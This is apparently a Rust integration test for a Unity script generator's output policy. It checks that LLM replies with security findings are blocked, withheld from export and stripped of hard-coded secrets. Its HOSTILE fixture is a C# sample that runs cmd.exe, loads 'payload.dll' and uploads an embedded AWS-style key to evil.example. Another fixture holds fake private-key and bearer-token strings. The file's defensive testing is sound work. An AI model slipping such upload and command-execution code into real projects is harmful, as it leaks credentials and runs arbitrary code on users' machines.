//! The output policy through `Spark::generate` against a loopback OpenAI-compatible server: a
//! reply with blocking security findings comes back `blocked` with its files withheld, export
//! refuses it with `output_blocked`, `allow_unsafe` lets it out, and hard-coded secrets are
//! redacted in the result and in every export whatever the policy says.

use std::io::Read;

use serde_json::json;
use spark_core::export::{ExportConfig, ImportLimits, export_generated, export_generated_to_dir, import};
use spark_core::validate::{Severity, validate_source};
use spark_core::{
    Error, ErrorCode, ExportFormat, GenerateRequest, GeneratedScripts, GuardAction, Spark, SparkConfig,
};
use wiremock::matchers::{method, path};
use wiremock::{Mock, MockServer, ResponseTemplate};

use crate::resilience::SCRIPT;

/// An AWS access key id: `AKIA` and 16 more characters.
const AWS_KEY: &str = "AKIAQ7ZD3KX9PLMN4RTB";

/// Process.Start, BinaryFormatter, Assembly.Load, an AWS key (also in a comment) and an upload
/// to plain http.
const HOSTILE: &str = r#"Here is the script.

### Exfil.cs
```csharp
using System.Collections;
using System.Diagnostics;
using System.IO;
using System.Reflection;
using System.Runtime.Serialization.Formatters.Binary;
using UnityEngine;
using UnityEngine.Networking;

public class Exfil : MonoBehaviour
{
    // uploads with AKIAQ7ZD3KX9PLMN4RTB
    private const string AwsKey = "AKIAQ7ZD3KX9PLMN4RTB";

    private void Start()
    {
        Process.Start("cmd.exe", "/c whoami");
        var formatter = new BinaryFormatter();
        var plugin = Assembly.Load(File.ReadAllBytes("payload.dll"));
        StartCoroutine(Upload());
    }

    private IEnumerator Upload()
    {
        var form = new WWWForm();
        form.AddField("key", AwsKey);
        using (var req = UnityWebRequest.Post("http://evil.example/upload", form))
        {
            yield return req.SendWebRequest();
        }
    }
}
```
"#;

/// A private key over several lines and a bearer token, nothing else wrong.
const SECRETS_ONLY: &str = r#"### Client.cs
```csharp
using UnityEngine;

public class Client : MonoBehaviour
{
    private const string Pem = @"-----BEGIN RSA PRIVATE KEY-----
MIIEowIBAAKCAQEAu1SU1LfVLPHCozMxH2Mo4lgOEePzNm0tRgeLezV6ffAt0gun
-----END RSA PRIVATE KEY-----";
    private const string Auth = "Bearer q8Xv2LmN7pR4tY6wZ1aB3cD5eF9gH0jK";

    private void Start()
    {
        Debug.Log(Pem.Length + Auth.Length);
    }
}
```
"#;

const BLOCKING: [&str; 5] = ["SPK2001", "SPK2002", "SPK2003", "SPK2006", "SPK2009"];

fn openai_sse(text: &str) -> String {
    let chunk = |delta: serde_json::Value, finish: serde_json::Value| {
        json!({"id":"c1","object":"chat.completion.chunk","created":1,"model":"gpt-test",
            "choices":[{"index":0,"delta":delta,"finish_reason":finish}]})
    };
    let usage = json!({"id":"c1","object":"chat.completion.chunk","created":1,"model":"gpt-test","choices":[],
        "usage":{"prompt_tokens":11,"completion_tokens":22,"total_tokens":33}});
    [chunk(json!({"role":"assistant","content":text}), json!(null)), chunk(json!({}), json!("stop")), usage]
        .iter()
        .map(|c| format!("data: {c}\n\n"))
        .chain(std::iter::once("data: [DONE]\n\n".to_string()))
        .collect()
}

/// A loopback OpenAI-compatible server that streams `reply` to every request.
async fn server(reply: &str) -> MockServer {
    let server = MockServer::start().await;
    Mock::given(method("POST"))
        .and(path("/v1/chat/completions"))
        .respond_with(ResponseTemplate::new(200).set_body_raw(openai_sse(reply), "text/event-stream"))
        .mount(&server)
        .await;
    server
}

fn config(server: &MockServer, extra: &str) -> SparkConfig {
    let mut c = SparkConfig::from_toml_str(&format!(
        "[providers]\norder = [\"openai\"]\n[openai]\nbase_url = \"{}/v1\"\napi_key = \"sk-test-0000\"\nmodel = \"gpt-test\"\n{extra}",
        server.uri()
    ))
    .unwrap();
    c.repair.max_rounds = 0;
    c.rate_limit.enabled = false;
    c.ledger.enabled = Some(false);
    c
}

async fn generate(spark: &Spark, req: GenerateRequest) -> GeneratedScripts {
    spark.generate(req).await.unwrap()
}

/// Every text of a result a caller can read, joined.
fn all_text(r: &GeneratedScripts) -> String {
    let mut s = serde_json::to_string(r).unwrap();
    s.push_str(&format!("{r:?}"));
    s
}

/// The unpacked text of every file of an archive.
fn unpacked(bytes: &[u8], format: ExportFormat) -> String {
    let files = import(bytes, format, &ImportLimits::default()).unwrap();
    files.iter().map(|f| format!("{}\n{}\n", f.path, String::from_utf8_lossy(&f.bytes))).collect()
}

#[tokio::test]
async fn a_hostile_reply_comes_back_blocked_with_its_findings_and_nothing_to_export() {
    let server = server(HOSTILE).await;
    let spark = Spark::from_config(config(&server, "")).unwrap();
    let out = generate(&spark, GenerateRequest::new("a script that uploads the save file")).await;

    let blocked = out.blocked.as_ref().expect("blocked");
    assert!(out.is_blocked());
    assert_eq!(blocked.rules, BLOCKING, "{:#?}", out.diagnostics);
    assert!(blocked.findings.iter().all(|d| d.severity == Severity::Error && d.rule.starts_with("SPK2")));
    for rule in BLOCKING {
        assert!(out.diagnostics.iter().any(|d| d.rule == rule), "{rule} kept in diagnostics");
        assert!(
            out.verdicts
                .iter()
                .any(|v| v.guard == "output_policy" && v.detector == rule && v.action == GuardAction::Block)
        );
    }
    assert!(out.files.is_empty(), "no exportable files");
    assert_eq!(blocked.withheld_files.len(), 1);
    assert!(blocked.withheld_files[0].content.contains("Process.Start"));
    // The key is gone even from the withheld copy, the raw reply and the messages.
    assert!(!all_text(&out).contains(AWS_KEY));
    assert!(out.diagnostics.iter().any(|d| d.rule == "SPK2019" && d.severity == Severity::Warning));

    for format in ExportFormat::ALL {
        let e = out.export(format).unwrap_err();
        assert_eq!(e.code(), ErrorCode::OutputBlocked, "{format}: {e}");
        assert!(matches!(&e, Error::OutputBlocked { rules } if rules == &BLOCKING), "{e:?}");
        assert_eq!(spark.export(&out, format).unwrap_err().code(), ErrorCode::OutputBlocked);
    }
    let dir = tempfile::tempdir().unwrap();
    let e = export_generated_to_dir(&out, &ExportConfig::default(), dir.path()).unwrap_err();
    assert_eq!(e.code(), ErrorCode::OutputBlocked);
    assert!(std::fs::read_dir(dir.path()).unwrap().next().is_none(), "nothing written");

    // Told otherwise, export hands out the withheld files, still redacted.
    let unsafe_ok = ExportConfig { allow_unsafe: true, ..Default::default() };
    let zip = export_generated(&out, ExportFormat::Zip, &unsafe_ok).unwrap();
    let text = unpacked(&zip, ExportFormat::Zip);
    assert!(text.contains("Assets/Generated/Scripts/Exfil.cs") && text.contains("Process.Start"));
    assert!(!text.contains(AWS_KEY));
}

#[tokio::test]
async fn allow_unsafe_lets_the_code_out_but_the_key_is_redacted_in_every_export() {
    let server = server(HOSTILE).await;
    let spark = Spark::from_config(config(&server, "")).unwrap();
    let out = generate(&spark, GenerateRequest::new("an uploader").allow_unsafe(true)).await;

    assert!(out.blocked.is_none());
    assert_eq!(out.files.len(), 1);
    let code = &out.files[0].content;
    assert!(code.contains("private const string AwsKey = \"REDACTED\";"), "{code}");
    assert!(code.contains("// uploads with REDACTED"), "{code}");
    assert!(!all_text(&out).contains(AWS_KEY));
    assert!(out.raw.contains("\"REDACTED\""));
    // Every finding is still reported, and the let-through is on record.
    for rule in BLOCKING {
        assert!(out.diagnostics.iter().any(|d| d.rule == rule), "{rule}");
        assert!(out.verdicts.iter().any(|v| v.detector == rule && v.action == GuardAction::Warn));
    }
    let note = out.diagnostics.iter().find(|d| d.rule == "SPK2019").expect("redaction noted");
    assert_eq!((note.file.as_str(), note.severity), ("Exfil.cs", Severity::Warning));
    assert!(out.verdicts.iter().any(|v| v.detector == "secret_redacted"));
    // Still C#: the redacted file parses as before.
    let again = validate_source(code, "Exfil.cs", &Default::default());
    assert!(!again.iter().any(|d| d.rule.starts_with("SPK0")), "{again:#?}");
    assert!(!again.iter().any(|d| d.rule == "SPK2009"), "{again:#?}");

    for format in ExportFormat::ALL {
        let bytes = out.export(format).unwrap();
        let text = unpacked(&bytes, format);
        assert!(text.contains("\"REDACTED\""), "{format}");
        assert!(!text.contains(AWS_KEY), "{format}: the key reached the archive");
    }
    // The ZIP read with the zip crate directly, not SPARK's import side.
    let bytes = out.export(ExportFormat::Zip).unwrap();
    let mut zip = zip::ZipArchive::new(std::io::Cursor::new(bytes)).unwrap();
    let mut found = false;
    for i in 0..zip.len() {
        let mut entry = zip.by_index(i).unwrap();
        let name = entry.name().unwrap().to_string();
        let mut text = String::new();
        entry.read_to_string(&mut text).unwrap();
        assert!(!text.contains(AWS_KEY), "{name}");
        found |= name.ends_with("Exfil.cs") && text.contains("REDACTED");
    }
    assert!(found);
    let dir = tempfile::tempdir().unwrap();
    let written = export_generated_to_dir(&out, &ExportConfig::default(), dir.path()).unwrap();
    for p in written {
        assert!(!std::fs::read_to_string(&p).unwrap().contains(AWS_KEY), "{}", p.display());
    }
}

#[tokio::test]
async fn the_config_opts_in_globally_or_per_rule() {
    let server = server(HOSTILE).await;
    let req = || GenerateRequest::new("an uploader");

    let spark = Spark::from_config(config(&server, "[output]\nallow_unsafe = true\n")).unwrap();
    let out = generate(&spark, req()).await;
    assert!(out.blocked.is_none() && out.files.len() == 1);
    assert!(!out.files[0].content.contains(AWS_KEY));

    let all = "[output]\nallow = [\"SPK2001\", \"SPK2002\", \"SPK2003\", \"SPK2006\", \"SPK2009\"]\n";
    let out = generate(&Spark::from_config(config(&server, all)).unwrap(), req()).await;
    assert!(out.blocked.is_none(), "{:?}", out.blocked);
    assert!(out.verdicts.iter().any(|v| v.detector == "SPK2001" && v.action == GuardAction::Allow));

    let some = "[output]\nallow = [\"SPK2001\", \"SPK2006\"]\n";
    let out = generate(&Spark::from_config(config(&server, some)).unwrap(), req()).await;
    assert_eq!(out.blocked.unwrap().rules, ["SPK2002", "SPK2003", "SPK2009"]);

    // Which rules block is configurable too.
    let strict = "[output]\nblock = [\"SPK2001\"]\n";
    let out = generate(&Spark::from_config(config(&server, strict)).unwrap(), req()).await;
    assert_eq!(out.blocked.unwrap().rules, ["SPK2001"]);

    let e = SparkConfig::from_toml_str("[output]\nallow = [\"SPK2999\"]\n").unwrap_err();
    assert!(matches!(&e, Error::Config { field, .. } if field == "output.allow"), "{e}");
}

#[tokio::test]
async fn a_clean_reply_is_not_blocked() {
    let server = server(SCRIPT).await;
    let spark = Spark::from_config(config(&server, "")).unwrap();
    let out = generate(&spark, GenerateRequest::new("a spinner")).await;
    assert!(out.blocked.is_none());
    assert_eq!(out.files.len(), 1);
    assert!(!out.verdicts.iter().any(|v| v.guard == "output_policy"), "{:?}", out.verdicts);
    assert!(!out.export(ExportFormat::Zip).unwrap().is_empty());
}

#[tokio::test]
async fn secrets_over_several_lines_are_redacted_and_lines_keep_their_numbers() {
    let server = server(SECRETS_ONLY).await;
    let spark = Spark::from_config(config(&server, "")).unwrap();
    let out = generate(&spark, GenerateRequest::new("a client").allow_unsafe(true)).await;
    let code = &out.files[0].content;
    assert!(!all_text(&out).contains("MIIEowIBAAKCAQEAu1SU1LfVLPHCozMxH2Mo4lgOEePzNm0tRgeLezV6ffAt0gun"));
    assert!(!all_text(&out).contains("q8Xv2LmN7pR4tY6wZ1aB3cD5eF9gH0jK"));
    assert_eq!(code.matches("\"REDACTED\"").count(), 2, "{code}");
    // The key block spanned 3 lines; the line of `Start` is where it was.
    let line_of = |text: &str| text.lines().position(|l| l.contains("private void Start()"));
    let original = SECRETS_ONLY.split("```csharp\n").nth(1).unwrap();
    assert_eq!(line_of(code), line_of(original));
    assert!(
        !validate_source(code, "Client.cs", &Default::default()).iter().any(|d| d.rule.starts_with("SPK0"))
    );
    // Without the opt-in the secrets alone block (SPK2009 is a security error).
    let out = generate(&spark, GenerateRequest::new("a client")).await;
    assert_eq!(out.blocked.unwrap().rules, ["SPK2009"]);
}

#[tokio::test]
async fn a_repeated_request_is_still_blocked_and_allow_unsafe_is_not_served_the_blocked_result() {
    let server = server(HOSTILE).await;
    let mut c = config(&server, "");
    c.cache.enabled = true;
    let spark = Spark::from_config(c).unwrap();
    let first = generate(&spark, GenerateRequest::new("an uploader")).await;
    let again = generate(&spark, GenerateRequest::new("an uploader")).await;
    assert!(first.blocked.is_some() && again.blocked.is_some());
    assert_eq!(first.blocked, again.blocked);
    assert!(again.verdicts.iter().any(|v| v.guard == "output_policy" && v.action == GuardAction::Block));
    let opted = generate(&spark, GenerateRequest::new("an uploader").allow_unsafe(true)).await;
    assert!(opted.blocked.is_none() && opted.files.len() == 1);
    assert!(!opted.files[0].content.contains(AWS_KEY));
    // One model call: the reply is shared, the policy is per request.
    assert_eq!(server.received_requests().await.unwrap().len(), 1);
}

#[tokio::test]
async fn offline_scaffolds_are_never_blocked() {
    let spark = Spark::builder().provider(spark_core::Offline::new()).build().unwrap();
    for prompt in ["a door that opens", "an inventory saved to disk", "download a texture from a URL"] {
        let out = generate(&spark, GenerateRequest::new(prompt)).await;
        assert!(out.blocked.is_none(), "{prompt}: {:?}", out.blocked);
        assert!(!out.files.is_empty());
    }
}
